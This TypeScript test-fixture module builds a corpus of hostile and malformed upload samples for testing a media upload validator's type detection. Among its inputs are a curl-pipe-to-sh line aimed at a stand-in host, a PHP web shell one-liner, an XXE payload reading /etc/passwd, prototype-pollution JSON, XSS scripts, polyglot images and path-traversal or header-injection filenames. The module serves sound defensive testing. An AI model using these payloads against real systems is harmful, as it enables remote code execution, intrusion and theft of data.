import type { ErrorCode } from '#domain/contract/errors.ts'
import type { MediaMimeType } from '#domain/upload/uploadLimits.ts'
import { type Bomb, bombs } from './bombs.ts'
import { film, genuineFiles } from './genuine.ts'
import { boxOf, gifHeader, jpegHeader, pngHeader, withComment } from './headers.ts'

/** A file, its name, and the expected result: accepted as that type, or refused with that code. */
export interface Sample {
  readonly title: string
  readonly name: string
  readonly bytes: Buffer
  readonly verdict: MediaMimeType | ErrorCode
  /** An original that cannot be cleaned: it is served only to its author. */
  readonly isKeptFromOthers?: boolean
  /** False values that the client sends. */
  readonly length?: number
  readonly sha256?: string
}

const page = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'
const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

/** 150 files, each with its verdict: the type is detected by magic bytes, never by name. */
export async function corpus(): Promise<Sample[]> {
  const genuine = await genuineFiles()
  return [
    ...named(genuine),
    ...foreignTypes(),
    ...almost(genuine),
    ...polyglots(genuine),
    ...dimensions(),
    ...damaged(genuine),
    ...names(genuine['image/jpeg']),
    ...lies(genuine['image/jpeg']),
    ...small(bombs(100_000)),
  ]
}

type Genuine = Readonly<Record<MediaMimeType, Buffer>>
const entriesOf = (genuine: Genuine) => Object.entries(genuine) as [MediaMimeType, Buffer][]

/** Each type with its own name, without one, and with a dangerous one: 27. */
function named(genuine: Genuine): Sample[] {
  return entriesOf(genuine).flatMap(([type, bytes]) =>
    [type.split('/')[1] ?? '', 'html', 'exe'].map((extension, n) => ({
      title: `${type} named .${extension}`,
      name: `photo.${extension}`,
      bytes: Buffer.concat([bytes, Buffer.from([n])]),
      verdict: type,
    })),
  )
}

/** Other types of files with names of photos: 34. */
function foreignTypes(): Sample[] {
  const kinds: Record<string, string | Buffer> = {
    text: 'Ceci est un texte. '.repeat(20),
    'empty lines': '\n'.repeat(200),
    zeros: Buffer.alloc(300),
    HTML: page,
    'HTML behind a comment': `<!-- GIF89a -->${page}`,
    'HTML behind spaces': `   \n${page}`,
    SVG: drawing,
    'SVG behind a declaration': `<?xml version="1.0"?>${drawing}`,
    'SVG behind a byte order mark': `\ufeff${drawing}`,
    'compressed SVG': Buffer.from('1f8b0800000000000003', 'hex'),
    XML: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    JSON: '{"__proto__":{"admin":true}}',
    JavaScript: 'self.addEventListener("fetch", (e) => e.respondWith(new Response("pris")))',
    PHP: '<?php system($_GET["c"]); ?>',
    'shell script': '#!/bin/sh\ncurl http://ailleurs.test | sh\n',
    PDF: '%PDF-1.7\n1 0 obj\n<< /OpenAction 2 0 R >>\nendobj',
    PostScript: '%!PS-Adobe-3.0\n(%pipe%id) (w) file',
    ZIP: Buffer.from('504b0304140000000800', 'hex'),
    RAR: Buffer.from('526172211a0701003392b5e5', 'hex'),
    '7z': Buffer.from('377abcaf271c000400', 'hex'),
    'Windows program': Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
    'Linux program': Buffer.from('7f454c4602010100000000000000000003003e00', 'hex'),
    'Java class': Buffer.from('cafebabe00000034', 'hex'),
    WebAssembly: Buffer.from('0061736d01000000', 'hex'),
    'SQLite database': 'SQLite format 3\0',
    BMP: Buffer.from('424d3600000000000000360000002800', 'hex'),
    TIFF: Buffer.from('49492a00080000000000', 'hex'),
    icon: Buffer.from('00000100010010100000010020006804', 'hex'),
    PSD: '8BPS\0\u0001\0\0\0\0\0\0',
    'JPEG 2000': Buffer.from('0000000c6a5020200d0a870a', 'hex'),
    MP3: Buffer.from('49443304000000000023', 'hex'),
    WAV: 'RIFF\u0024\u0008\0\0WAVEfmt ',
    AVI: 'RIFF\u0024\u0008\0\0AVI LIST',
    Matroska: Buffer.from('1a45dfa3934282886d6174726f736b61', 'hex'),
  }
  return Object.entries(kinds).map(([kind, content]) => ({
    title: `${kind} named .jpg`,
    name: 'photo.jpg',
    bytes: padded(content),
    verdict: 'upload.type_refuse',
  }))
}

/** First bytes that almost match those of a type: 10. */
function almost(genuine: Genuine): Sample[] {
  const wrong: Record<string, Buffer> = {
    'two bytes of a JPEG': padded(Buffer.from('ffd8', 'hex')),
    'a PNG with Unix line ends': padded(Buffer.from('89504e470a1a0a0a', 'hex')),
    GIF88a: padded('GIF88a'),
    'gif89a in small letters': padded('gif89a'),
    'RIFF without WEBP': padded('RIFF\u0024\u0008\0\0WEBQ'),
    'a film of an unknown brand': film('evil'),
    'a raw picture of Canon': film('crx '),
    'boxes without ftyp': padded(Buffer.from('00000018667265650000', 'hex')),
    'a JPEG behind one byte': Buffer.concat([Buffer.from([0]), genuine['image/jpeg']]),
    'a JPEG behind a page': Buffer.concat([Buffer.from(page), genuine['image/jpeg']]),
  }
  return Object.entries(wrong).map(([title, bytes]) => ({
    title,
    name: 'photo.jpg',
    bytes,
    verdict: 'upload.type_refuse',
  }))
}

/** Polyglot files: accepted by their first bytes and served only as that type. 12. */
function polyglots(genuine: Genuine): Sample[] {
  const { 'image/jpeg': jpeg, 'image/png': png, 'image/gif': gif, 'image/webp': webp, 'video/mp4': mp4 } = genuine
  const zip = Buffer.from('504b0304140000000800aabbccdd', 'hex')
  const made: [string, MediaMimeType, Buffer][] = [
    ['a JPEG with a page behind it', 'image/jpeg', Buffer.concat([jpeg, Buffer.from(page)])],
    ['a JPEG with a page in its comment', 'image/jpeg', withComment(jpeg, page)],
    ['a JPEG with PHP in its comment', 'image/jpeg', withComment(jpeg, '<?php phpinfo(); ?>')],
    ['a JPEG that is a ZIP too', 'image/jpeg', Buffer.concat([jpeg, zip])],
    ['a JPEG with a PDF behind it', 'image/jpeg', Buffer.concat([jpeg, Buffer.from('%PDF-1.4')])],
    ['a PNG with a page behind it', 'image/png', Buffer.concat([png, Buffer.from(page)])],
    ['a PNG that is a ZIP too', 'image/png', Buffer.concat([png, zip])],
    [
      'a GIF that is a script too',
      'image/gif',
      Buffer.concat([Buffer.from('GIF89a/*'), gif.subarray(8), Buffer.from('*/=1;alert(1)')]),
    ],
    ['a GIF with a drawing behind it', 'image/gif', Buffer.concat([gif, Buffer.from(drawing)])],
    ['a WebP with a page behind it', 'image/webp', Buffer.concat([webp, Buffer.from(page)])],
    ['a film with a page behind it', 'video/mp4', Buffer.concat([mp4, Buffer.from(page)])],
    ['a film with a page among its boxes', 'video/mp4', Buffer.concat([mp4, boxOf('free', page)])],
  ]
  return made.map(([title, verdict, bytes]) => ({ title, name: 'photo.html', bytes, verdict }))
}

/** Headers with larger dimensions than allowed: 8. */
function dimensions(): Sample[] {
  const made: [string, Buffer, Sample['verdict']][] = [
    ['a PNG of 256 megapixels', pngHeader(16_000, 16_000), 'upload.dimensions'],
    ['a PNG of 30 001 pixels a side', pngHeader(30_001, 2), 'upload.dimensions'],
    ['a PNG of 4 000 000 000 pixels', pngHeader(2_000_000_000, 2), 'upload.dimensions'],
    ['a JPEG of 256 megapixels', jpegHeader(16_000, 16_000), 'upload.dimensions'],
    ['a JPEG of 65 500 pixels a side', jpegHeader(65_500, 10), 'upload.dimensions'],
    ['a GIF of 65 535 pixels a side', gifHeader(65_535, 65_535), 'upload.dimensions'],
    ['a PNG of 100 megapixels that ends early', pngHeader(10_000, 10_000), 'image/png'],
    ['a JPEG of 249 megapixels that ends early', jpegHeader(15_780, 15_780), 'image/jpeg'],
  ]
  return made.map(([title, bytes, verdict]) => ({ title, name: 'photo.png', bytes, verdict }))
}

/** A phone's damaged file may be the only copy: stored, with a placeholder. 9. */
function damaged(genuine: Genuine): Sample[] {
  return entriesOf(genuine).map(([type, bytes]) => ({
    title: `half a file of ${type}`,
    name: 'photo',
    bytes: bytes.subarray(0, Math.max(70, Math.floor(bytes.length / 2))),
    verdict: type,
  }))
}

/** Names with path traversal, header injection or invisible characters: 13. */
function names(jpeg: Buffer): Sample[] {
  return [
    '../../../../etc/passwd.jpg',
    '..\\..\\windows\\system32\\photo.jpg',
    '/etc/shadow',
    'photo\0.exe.jpg',
    'photo\u202egpj.exe',
    'photo.jpg\r\nX-Injecte: oui',
    '"; filename="autre.html',
    '<img src=x onerror=alert(1)>.jpg',
    'é'.repeat(400),
    '   ',
    '.htaccess',
    'CON.jpg',
    '😀'.repeat(60),
  ].map((name, n) => ({
    title: `a photo named ${JSON.stringify(name).slice(0, 40)}`,
    name,
    bytes: Buffer.concat([jpeg, Buffer.from([200, n])]),
    verdict: 'image/jpeg',
  }))
}

/** False values from the client: 7. */
function lies(jpeg: Buffer): Sample[] {
  const bytes = Buffer.concat([jpeg, Buffer.from([201])])
  const other = Buffer.concat([jpeg, Buffer.from([202])])
  return [
    { title: 'nothing', name: 'a.jpg', bytes: Buffer.alloc(0), verdict: 'upload.vide' },
    { title: 'one byte', name: 'a.jpg', bytes: Buffer.from([0xff]), verdict: 'upload.type_refuse' },
    {
      title: 'one byte too many',
      name: 'a.jpg',
      bytes: Buffer.alloc(0),
      length: 104_857_601,
      verdict: 'upload.trop_volumineux',
    },
    {
      title: 'a length of 2^53',
      name: 'a.jpg',
      bytes: Buffer.alloc(0),
      length: 2 ** 53,
      verdict: 'upload.entetes',
    },
    {
      title: 'more bytes than announced',
      name: 'a.jpg',
      bytes,
      length: bytes.length - 5,
      verdict: 'upload.trop_volumineux',
    },
    { title: 'the hash of another file', name: 'a.jpg', bytes, sha256: 'ab'.repeat(32), verdict: 'upload.empreinte' },
    { title: 'a hash that is none', name: 'a.jpg', bytes: other, sha256: 'pas une empreinte', verdict: 'image/jpeg' },
  ]
}

/** Small enough for a parser without limits, large enough for one with limits: 30. */
function small(files: readonly Bomb[]): Sample[] {
  const beyondLimits = new Set([
    'a JPEG of short comments',
    'a PNG of empty texts',
    'a PNG with a profile that inflates',
    'a GIF of comments of one byte',
    'a film of an endless fragment',
    'a film of empty fragments',
    'a HEIC of pieces of no bytes',
    'a WebM of empty elements',
    'a WebM of blocks of subtitles',
    'a WebM of empty tags',
  ])
  return files.map(({ title, type, make }) => ({
    title,
    name: 'photo',
    bytes: make(),
    verdict: type,
    isKeptFromOthers: beyondLimits.has(title),
  }))
}

function padded(content: string | Buffer): Buffer {
  return Buffer.concat([Buffer.from(content as string, 'utf8'), Buffer.alloc(200, 0x20)])
}
